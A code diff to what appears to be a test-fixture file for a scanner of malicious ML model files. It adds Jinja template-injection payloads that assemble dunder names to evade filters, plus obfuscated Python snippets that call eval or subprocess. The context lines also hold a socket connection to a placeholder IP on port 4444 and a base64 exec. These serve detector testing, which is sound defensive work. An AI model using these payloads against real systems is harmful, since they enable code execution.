@@ -243,6 +243,7 @@ SSTI_TEMPLATES = {
     "template-reference": "{{ self._TemplateReference__context.cycler.__init__ }}",
     "replace": "{{ ''|attr('XXclassXX'|replace('XX', '__')) }}",
     "computed-attr": "{{ messages|attr(messages[0]['content']) }}",
+    "computed-subscript": "{% set u = (lipsum|string)[30] %}{% set k = u ~ u ~ 'class' ~ u ~ u %}{{ ''[k] }}",
 }
 
 
@@ -289,6 +290,8 @@ MALICIOUS_MODELING = {
     "exec-blob": "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
     "socket-exfil": "import socket\n\ndef f():\n    s = socket.create_connection(('203.0.113.1', 4444))\n",
     "importlib-computed": "import importlib\n\nmod = importlib.import_module(''.join(['o', 's']))\nmod.system('id')\n",
+    "builtins-subscript": "class M:\n    def __init__(self, s):\n        __builtins__['ev' + 'al'](s)\n",
+    "sys-modules": "import sys\n\ndef f():\n    sys.modules['subprocess'].run(['id'])\n",
     "pickle-loads": "import pickle\n\nclass M:\n    def __init__(self, blob):\n        self.state = pickle.loads(blob)\n",
 }
 
@@ -400,3 +403,16 @@ def sevenzip_symlink(target: str) -> bytes:
             z.write(link, "link")
             z.writestr(BENIGN_PICKLE, "data.pkl")
         return buf.getvalue()
+
+
+def frozen_graph(ops: Iterable[str]) -> bytes:
+    """A TF1 frozen ``GraphDef`` (``frozen_graph.pb``): node=1, versions=4."""
+    return b"".join(field(1, node_def(f"n{i}", op)) for i, op in enumerate(ops)) + field(4, field(1, 1808))
+
+
+def saved_model_text(ops: Iterable[str]) -> bytes:
+    """A text-format ``saved_model.pbtxt`` (TensorFlow reads it when ``saved_model.pb`` is absent)."""
+    nodes = "".join(
+        f'    node {{\n      name: "n{i}"\n      op: "{op}"\n    }}\n' for i, op in enumerate(ops)
+    )
+    return f"saved_model_schema_version: 1\nmeta_graphs {{\n  graph_def {{\n{nodes}  }}\n}}\n".encode()
